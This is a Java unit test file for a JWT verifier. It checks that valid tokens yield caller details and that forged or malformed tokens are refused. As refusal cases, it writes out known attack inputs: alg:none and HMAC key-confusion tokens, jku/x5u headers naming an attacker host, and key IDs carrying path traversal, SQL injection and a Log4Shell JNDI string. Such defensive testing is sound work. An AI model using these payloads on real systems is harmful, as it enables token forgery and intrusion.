package io.lanyard.agent.caller;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.util.Base64URL;
import io.lanyard.Assurance;
import io.lanyard.Caller;
import io.lanyard.InboundRequest;
import io.lanyard.Incidents;
import io.lanyard.agent.caller.Verification.Refused;
import io.lanyard.agent.caller.Verification.Verified;
import io.lanyard.rules.CallerSource;
import io.lanyard.rules.ClaimPaths;
import io.lanyard.rules.KeySource;
import io.lanyard.rules.SignatureAlgorithm;
import io.lanyard.rules.TokenForm;
import io.lanyard.rules.cel.Type;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TokenVerifierTest {
  private static final Signer SSO = Signer.es256("k1");
  private static final Signer RSA = Signer.rs256("r1", 2_048);
  private static final Signer MALLORY = Signer.es256("k1");
  private static final InboundRequest REQUEST = new InboundRequest("GET", "/ask", "10.0.0.7");
  private static final Instant NOW = Instant.parse("2026-11-22T12:00:00Z");
  private static final String BOB =
      """
      {"iss":"https://sso.example","aud":"care-desk","sub":"bob","exp":%d,"nbf":%d,
       "sid":"s-1","jti":"t-1","scope":"data.read data.write","tenant":"t1","clearance":3,
       "purposes":["treatment","billing"],"ratio":"high",
       "realm_access":{"roles":["clinicians","staff"]},
       "act":{"sub":"desk","act":{"sub":"gateway"}}}\
      """
          .formatted(NOW.plusSeconds(300).getEpochSecond(), NOW.minusSeconds(60).getEpochSecond());

  private final AtomicInteger reads = new AtomicInteger();
  private final List<String> incidents = new ArrayList<>();
  private Instant now = NOW;
  private final TokenVerifier verifier =
      verifierOf(issuer("corp", "https://sso.example"), Signer.keySet(SSO, RSA));

  // What a good token says

  @Test
  void readsTheCallerOutOfAGoodToken() {
    Caller bob = callerOf(SSO.sign(BOB));

    assertThat(bob.subject()).isEqualTo("bob");
    assertThat(bob.issuer()).isEqualTo("https://sso.example");
    assertThat(bob.groups()).containsExactlyInAnyOrder("clinicians", "staff");
    assertThat(bob.scopes()).containsExactlyInAnyOrder("data.read", "data.write");
    assertThat(bob.session()).isEqualTo("s-1");
    assertThat(bob.tokenId()).isEqualTo("t-1");
    assertThat(bob.keyId()).isEqualTo("k1");
    assertThat(bob.source()).isEqualTo("corp");
    assertThat(bob.actors()).containsExactly("desk", "gateway");
    assertThat(bob.assurance()).isEqualTo(Assurance.VERIFIED);
  }

  @Test
  void theApplicationThatATokenWasIssuedToIsTheLastActor() {
    String act = "\"act\":{\"sub\":\"desk\",\"act\":{\"sub\":\"gateway\"}}";
    assertThat(callerOf(SSO.sign(BOB.replace(act, act + ",\"azp\":\"portal\""))).actors())
        .containsExactly("desk", "gateway", "portal");
    assertThat(callerOf(SSO.sign(BOB.replace(act, act + ",\"azp\":\"desk\""))).actors())
        .containsExactly("desk", "gateway");
    assertThat(callerOf(SSO.sign(BOB.replace(act, "\"client_id\":\"portal\""))).actors())
        .containsExactly("portal");
  }

  @Test
  void anApplicationsOwnTokenIsAWorkloadsAndNobodysPerson() {
    Caller batch = callerOf(SSO.sign(BOB.replace("\"bob\"", "\"batch\",\"client_id\":\"batch\"")));

    assertThat(batch.assurance()).isEqualTo(Assurance.WORKLOAD);
    assertThat(batch.isAuthenticated()).isFalse();
    assertThat(batch.actors()).containsExactly("batch", "desk", "gateway");
  }

  @Test
  void showsOnlyDeclaredClaimsOfTheirDeclaredType() {
    assertThat(callerOf(SSO.sign(BOB)).claims())
        .containsOnly(
            Map.entry("tenant", "t1"),
            Map.entry("clearance", 3L),
            Map.entry("purposes", List.of("treatment", "billing")));
  }

  @Test
  void acceptsRsaBesideEllipticCurves() {
    assertThat(callerOf(RSA.sign(BOB)).keyId()).isEqualTo("r1");
  }

  @Test
  void acceptsATokenWithoutKeyId() {
    assertThat(callerOf(SSO.sign("{\"alg\":\"ES256\"}", BOB)).subject()).isEqualTo("bob");
  }

  @Test
  void acceptsOneOfSeveralAudiences() {
    String token = SSO.sign(BOB.replace("\"care-desk\"", "[\"other\",\"care-desk\"]"));
    assertThat(callerOf(token).subject()).isEqualTo("bob");
  }

  @Test
  void findsClaimsWhoseNamesHoldDots() {
    CallerSource.Jwt auth0 =
        new CallerSource.Jwt(
            "auth0",
            "jwt",
            TokenForm.STANDARD,
            "https://sso.example",
            new KeySource.Discovery(),
            Set.of("care-desk"),
            Set.of(SignatureAlgorithm.ES256),
            "Authorization",
            Duration.ZERO,
            Map.of(),
            Optional.empty(),
            new ClaimPaths(
                "sub",
                "https://acme.example/app.roles",
                "permissions",
                "",
                List.of("azp"),
                Map.of()));
    String claims =
        BOB.replace(
            "\"tenant\":\"t1\"",
            "\"https://acme.example/app\":{\"roles\":\"nurse\"},\"permissions\":[\"a\",\"b\"]");

    Verification verification =
        verifierOf(auth0, Signer.keySet(SSO)).verify(REQUEST, bearer(SSO.sign(claims)));

    assertThat(verification.caller().groups()).containsExactly("nurse");
    assertThat(verification.caller().scopes()).containsExactlyInAnyOrder("a", "b");
  }

  @Test
  void verifiesATokenOnceAndRemembersItUntilItExpires() {
    String token = SSO.sign(BOB);

    assertThat(verify(token)).isInstanceOfSatisfying(Verified.class, v -> assertFirst(v, true));
    assertThat(verify(token)).isInstanceOfSatisfying(Verified.class, v -> assertFirst(v, false));
    now = NOW.plusSeconds(331);
    assertRefused(token, RefusalReason.EXPIRED);
  }

  private static void assertFirst(Verified verified, boolean first) {
    assertThat(verified.first()).isEqualTo(first);
  }

  // Nobody at the door

  @Test
  void nothingIsPresentedWithoutTheHeaderOrWithAnotherScheme() {
    assertThat(verifier.verify(REQUEST, name -> List.of())).isEqualTo(new Verification.Absent());
    assertThat(verifier.verify(REQUEST, name -> List.of("Basic Ym9iOnB3")))
        .isEqualTo(new Verification.Absent());
    assertThat(reads).as("reads of the key set").hasValue(0);
  }

  @Test
  void refusesAHeaderThatCameTwiceEvenIfBothAreGood() {
    String token = "Bearer " + SSO.sign(BOB);
    assertRefused(name -> List.of(token, token), RefusalReason.DUPLICATED_HEADER);
  }

  @Test
  void refusesTwoTokensInOneHeader() {
    String token = "Bearer " + SSO.sign(BOB);
    assertRefused(name -> List.of(token + ", " + token), RefusalReason.MALFORMED);
  }

  @Test
  void refusesAnEmptyHeader() {
    assertRefused(name -> List.of("  "), RefusalReason.EMPTY_HEADER);
  }

  // Attacks on the signature

  @Test
  void refusesAlgNone() {
    String token = Base64URL.encode("{\"alg\":\"none\"}") + "." + Base64URL.encode(BOB) + ".";
    assertRefused(token, RefusalReason.ALGORITHM_NOT_PINNED);
  }

  @Test
  void refusesHmacWithThePublicKeyAsItsSecret() throws Exception {
    String input =
        Base64URL.encode("{\"alg\":\"HS256\",\"kid\":\"k1\"}") + "." + Base64URL.encode(BOB);
    for (byte[] secret : publicKeyInEveryForm()) {
      Mac mac = Mac.getInstance("HmacSHA256");
      mac.init(new SecretKeySpec(secret, "HmacSHA256"));
      byte[] signature = mac.doFinal(input.getBytes(StandardCharsets.US_ASCII));
      assertRefused(input + "." + Base64URL.encode(signature), RefusalReason.ALGORITHM_NOT_PINNED);
    }
  }

  private static List<byte[]> publicKeyInEveryForm() throws Exception {
    ECKey key = (ECKey) SSO.key().toPublicJWK();
    byte[] der = key.toECPublicKey().getEncoded();
    String pem =
        "-----BEGIN PUBLIC KEY-----\n"
            + java.util.Base64.getMimeEncoder().encodeToString(der)
            + "\n-----END PUBLIC KEY-----\n";
    return List.of(
        der,
        pem.getBytes(StandardCharsets.US_ASCII),
        key.toJSONString().getBytes(StandardCharsets.US_ASCII));
  }

  @Test
  void refusesAnAlgorithmThatIsNotPinned() {
    String header = "{\"alg\":\"RS512\",\"kid\":\"r1\"}";
    assertRefused(RSA.sign(header, BOB), RefusalReason.ALGORITHM_NOT_PINNED);
  }

  @Test
  void refusesAnyChangedCharacter() {
    String token = SSO.sign(BOB);
    for (int i = 0; i < token.length(); i++) {
      char other = token.charAt(i) == 'A' ? 'B' : 'A';
      String changed = token.substring(0, i) + other + token.substring(i + 1);
      assertThat(verify(changed).caller()).as("changed at %d", i).isEqualTo(Caller.ANONYMOUS);
    }
  }

  @Test
  void refusesAnotherKeyUnderTheSameKeyId() {
    assertRefused(MALLORY.sign(BOB), RefusalReason.BAD_SIGNATURE);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"jwk\":{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"AA\",\"y\":\"AA\"}",
        "\"jku\":\"https://mallory.example/keys\"",
        "\"x5u\":\"https://mallory.example/chain\""
      })
  void refusesATokenThatBringsItsOwnKey(String member) {
    String header = "{\"alg\":\"ES256\",\"kid\":\"k1\"," + member + "}";
    assertRefused(MALLORY.sign(header, BOB), RefusalReason.EMBEDDED_KEY);
  }

  @Test
  void ignoresACertificateThatTheTokenBrings() {
    String header = "{\"alg\":\"ES256\",\"kid\":\"k1\",\"x5c\":[\"MIIB\"]}";
    assertRefused(MALLORY.sign(header, BOB), RefusalReason.BAD_SIGNATURE);
  }

  @ParameterizedTest
  @ValueSource(strings = {"\"crit\":[\"exp\"]", "\"crit\":[]", "\"b64\":false", "\"zip\":\"DEF\""})
  void refusesExtensionsThatItDoesNotKnow(String member) {
    String header = "{\"alg\":\"ES256\",\"kid\":\"k1\"," + member + "}";
    assertRefused(SSO.sign(header, BOB), RefusalReason.CRITICAL_EXTENSION);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../../../dev/null",
        "https://mallory.example/keys",
        "k1' OR '1'='1",
        "k1\\u0000",
        "K1",
        "${jndi:ldap://mallory.example/a}"
      })
  void refusesKeyIdsThatMeanSomethingElsewhere(String keyId) {
    String header = "{\"alg\":\"ES256\",\"kid\":\"" + keyId + "\"}";
    assertRefused(MALLORY.sign(header, BOB), RefusalReason.UNKNOWN_KEY);
    assertRefused(SSO.sign(header, BOB), RefusalReason.UNKNOWN_KEY);
    assertThat(reads).as("reads of the key set").hasValue(1);
  }

  @Test
  void refusesAVeryLongKeyId() {
    String header = "{\"alg\":\"ES256\",\"kid\":\"" + "k1".repeat(8_000) + "\"}";
    assertRefused(SSO.sign(header, BOB), RefusalReason.UNKNOWN_KEY);
    String longer = "{\"alg\":\"ES256\",\"kid\":\"" + "k1".repeat(16_000) + "\"}";
    assertRefused(SSO.sign(longer, BOB), RefusalReason.TOO_LONG);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        ".",
        "..",
        "a.b",
        "a.b.c.d",
        "a.b.c.d.e",
        "e30.e30.e30",
        "e30=.e30.",
        "W10.e30.AA",
        "bnVsbA.e30.AA",
        "{\"payload\":\"e30\",\"signatures\":[]}"
      })
  void refusesWhatIsNoToken(String text) {
    assertThat(verifier.verify(REQUEST, name -> List.of("Bearer x" + text)))
        .isInstanceOf(Refused.class);
  }

  @Test
  void refusesPaddingAndStrayBitsInBase64() {
    String token = SSO.sign("{\"alg\":\"ES256\",\"kid\":\"k1\"}", BOB);
    assertRefused(token + "==", RefusalReason.MALFORMED);
    assertRefused(token.replaceFirst("\\.", "=."), RefusalReason.MALFORMED);
    assertRefused(token.substring(0, 4) + "\n" + token.substring(4), RefusalReason.MALFORMED);
  }

  @Test
  void refusesAHugeTokenUnread() {
    assertRefused("e30." + "A".repeat(10_000_000) + ".AA", RefusalReason.TOO_LONG);
    assertThat(reads).as("reads of the key set").hasValue(0);
  }

  @Test
  void refusesDeepNestingAndHugeNumbers() {
    String deep = "{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000);
    assertRefused(SSO.sign(deep), RefusalReason.MALFORMED);
    String number = BOB.replace("\"clearance\":3", "\"clearance\":" + "9".repeat(5_000));
    assertRefused(SSO.sign(number), RefusalReason.MALFORMED);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"sub\":\"bob\",\"sub\":\"alice\"",
        "\"sub\":\"bob\",\"s\\u0075b\":\"alice\"",
        "\"sub\":\"bob\",\"x\":{\"roles\":[\"a\"],\"roles\":[\"admin\"]}"
      })
  void refusesClaimsThatTwoReadersUnderstandDifferently(String members) {
    assertRefused(SSO.sign(BOB.replace("\"sub\":\"bob\"", members)), RefusalReason.MALFORMED);
  }

  @Test
  void refusesTrailingContentAndDuplicatesInTheHeader() {
    assertRefused(SSO.sign(BOB + "{}"), RefusalReason.MALFORMED);
    assertRefused(
        SSO.sign("{\"alg\":\"none\",\"alg\":\"ES256\",\"kid\":\"k1\"}", BOB),
        RefusalReason.MALFORMED);
  }

  // Good signatures, wrong claims

  @Test
  void refusesAnExpiredTokenBeyondTheSkew() {
    String token = SSO.sign(BOB);
    now = NOW.plusSeconds(329);
    assertThat(callerOf(token).subject()).isEqualTo("bob");
    now = NOW.plusSeconds(330);
    assertRefused(token, RefusalReason.EXPIRED);
  }

  @Test
  void refusesATokenBeforeItsTime() {
    now = NOW.minusSeconds(91);
    assertRefused(SSO.sign(BOB), RefusalReason.NOT_YET_VALID);
    now = NOW.minusSeconds(90);
    assertThat(callerOf(SSO.sign(BOB)).subject()).isEqualTo("bob");
  }

  @Test
  void refusesTheSameTokensOfAnotherIssuer() {
    String token = SSO.sign(BOB.replace("https://sso.example", "https://sso.example/"));
    assertRefused(token, RefusalReason.FOREIGN_ISSUER);
    assertThat(reads).as("reads of the key set").hasValue(0);
  }

  @ParameterizedTest
  @ValueSource(strings = {"\"other\"", "[]", "[\"other\"]", "\"care-desk2\"", "null", "7"})
  void refusesATokenForSomebodyElse(String audience) {
    assertRefused(SSO.sign(BOB.replace("\"care-desk\"", audience)), RefusalReason.WRONG_AUDIENCE);
  }

  @ParameterizedTest
  @ValueSource(strings = {"exp", "sub"})
  void refusesATokenWithout(String claim) {
    assertRefused(SSO.sign(BOB.replace("\"" + claim + "\":", "\"x\":")), RefusalReason.BAD_CLAIMS);
  }

  @ParameterizedTest
  @ValueSource(strings = {"\"soon\"", "-1", "99999999999999999", "1e300", "true", "[]"})
  void refusesAnExpiryThatIsNoTime(String expiry) {
    String claims = BOB.replaceFirst("\"exp\":\\d+", "\"exp\":" + expiry);
    assertRefused(SSO.sign(claims), RefusalReason.BAD_CLAIMS);
  }

  @ParameterizedTest
  @ValueSource(strings = {"7", "\"  \"", "[\"bob\"]", "{\"a\":1}", "null"})
  void refusesASubjectThatIsNoName(String subject) {
    assertRefused(SSO.sign(BOB.replace("\"bob\"", subject)), RefusalReason.BAD_CLAIMS);
  }

  @Test
  void refusesAnActorChainThatIsNone() {
    assertRefused(
        SSO.sign(BOB.replace("{\"sub\":\"gateway\"}", "\"gateway\"")), RefusalReason.BAD_CLAIMS);
  }

  @ParameterizedTest
  @ValueSource(strings = {"logout+jwt", "dpop+jwt", "txntoken+jwt", "secevent+jwt", "JOSE"})
  void refusesATokenOfAnotherKind(String type) {
    String header = "{\"alg\":\"ES256\",\"kid\":\"k1\",\"typ\":\"" + type + "\"}";
    assertRefused(SSO.sign(header, BOB), RefusalReason.WRONG_TYPE);
  }

  @ParameterizedTest
  @ValueSource(strings = {"JWT", "jwt", "at+jwt", "application/at+jwt"})
  void acceptsTheUsualKinds(String type) {
    String header = "{\"alg\":\"ES256\",\"kid\":\"k1\",\"typ\":\"" + type + "\"}";
    assertThat(callerOf(SSO.sign(header, BOB)).subject()).isEqualTo("bob");
  }

  @Test
  void aRefusalSaysWhatWasFoundAndWhatWasExpected() {
    assertThat(verify(SSO.sign(BOB.replace("\"care-desk\"", "[\"shop\",\"till\"]"))))
        .isEqualTo(new Refused("corp", RefusalReason.WRONG_AUDIENCE, "shop, till", "care-desk"));
    assertThat(verify(SSO.sign(BOB.replace("https://sso.example", "https://other.example"))))
        .isEqualTo(
            new Refused(
                "corp",
                RefusalReason.FOREIGN_ISSUER,
                "https://other.example",
                "https://sso.example"));
    now = NOW.plus(Duration.ofDays(365));
    assertThat(verify(SSO.sign(BOB)))
        .isInstanceOfSatisfying(
            Refused.class,
            refused -> {
              assertThat(refused.found()).startsWith("an end at 2026-");
              assertThat(refused.expected()).isEqualTo("one after " + now);
            });
  }

  /** Whoever sends a token must not be able to fill the record with it. */
  @Test
  void whatWasFoundIsCutShort() {
    String token = SSO.sign(BOB.replace("https://sso.example", "x".repeat(5_000)));

    assertThat(verify(token))
        .isInstanceOfSatisfying(
            Refused.class, refused -> assertThat(refused.found()).isEqualTo("x".repeat(100) + "…"));
  }

  // Several issuers

  @Test
  void takesTheFirstIssuerThatVerifiesAndNeverCrossesThem() {
    Signer partner = Signer.es256("k1");
    TokenVerifier both =
        new TokenVerifier(
            List.of(
                issuerVerifier(issuer("corp", "https://sso.example"), Signer.keySet(SSO)),
                issuerVerifier(
                    issuer("partner", "https://partner.example"), Signer.keySet(partner))));
    String partners = BOB.replace("https://sso.example", "https://partner.example");

    assertThat(both.verify(REQUEST, bearer(SSO.sign(BOB))).caller().source()).isEqualTo("corp");
    assertThat(both.verify(REQUEST, bearer(partner.sign(partners))).caller().source())
        .isEqualTo("partner");
    assertThat(both.verify(REQUEST, bearer(partner.sign(BOB))))
        .isEqualTo(new Refused("corp", RefusalReason.BAD_SIGNATURE));
    assertThat(both.verify(REQUEST, bearer(SSO.sign(partners))))
        .isEqualTo(new Refused("partner", RefusalReason.BAD_SIGNATURE));
  }

  @Test
  void verifiesEdwardsCurves() {
    Signer edwards = Signer.ed25519("e1");
    TokenVerifier both =
        new TokenVerifier(
            List.of(issuerVerifier(issuer("corp", "https://sso.example"), Signer.keySet(edwards))));
    String token = edwards.sign(BOB);

    assertThat(both.verify(REQUEST, bearer(token)).caller().keyId()).isEqualTo("e1");
    assertThat(both.verify(REQUEST, bearer(token.replaceFirst("[.][^.]*$", "." + "A".repeat(86)))))
        .isEqualTo(new Refused("corp", RefusalReason.BAD_SIGNATURE));
  }

  private static CallerSource.Jwt issuer(String id, String issuer) {
    Map<String, Type> claims =
        Map.of(
            "tenant", Type.STRING,
            "clearance", Type.INT,
            "purposes", new Type.ListOf(Type.STRING),
            "ratio", Type.DOUBLE,
            "missing", Type.STRING);
    return new CallerSource.Jwt(
        id,
        "jwt",
        TokenForm.STANDARD,
        issuer,
        new KeySource.Discovery(),
        Set.of("care-desk"),
        Set.of(SignatureAlgorithm.RS256, SignatureAlgorithm.ES256, SignatureAlgorithm.EdDSA),
        "Authorization",
        Duration.ofSeconds(30),
        Map.of(),
        Optional.empty(),
        new ClaimPaths(
            "sub", "realm_access.roles", "scope", "sid", List.of("azp", "client_id"), claims));
  }

  private TokenVerifier verifierOf(CallerSource.Jwt issuer, byte[] keySet) {
    return new TokenVerifier(List.of(issuerVerifier(issuer, keySet)));
  }

  private Credential issuerVerifier(CallerSource.Jwt issuer, byte[] keySet) {
    PublishedKeys source =
        () -> {
          reads.incrementAndGet();
          return keySet;
        };
    Incidents report = (where, failure) -> incidents.add(where);
    KeyCache keys = new KeyCache(issuer.id(), source, () -> 0L, Duration.ofSeconds(5), report);
    return new SignedCredential(new IssuerVerifier(issuer, keys, () -> now));
  }

  private Caller callerOf(String token) {
    Verification verification = verify(token);
    assertThat(verification).isInstanceOf(Verified.class);
    return verification.caller();
  }

  private Verification verify(String token) {
    return verifier.verify(REQUEST, bearer(token));
  }

  private static HeaderLookup bearer(String token) {
    return name -> name.equals("Authorization") ? List.of("Bearer " + token) : List.of();
  }

  private void assertRefused(String token, RefusalReason reason) {
    assertRefused(bearer(token), reason);
  }

  private void assertRefused(HeaderLookup headers, RefusalReason reason) {
    Verification verification = verifier.verify(REQUEST, headers);
    assertThat(verification)
        .isInstanceOfSatisfying(
            Refused.class,
            refused -> {
              assertThat(refused.source()).isEqualTo("corp");
              assertThat(refused.reason()).isEqualTo(reason);
              assertThat(refused.found()).hasSizeLessThanOrEqualTo(101);
            });
    assertThat(verification.caller()).isEqualTo(Caller.ANONYMOUS);
  }
}
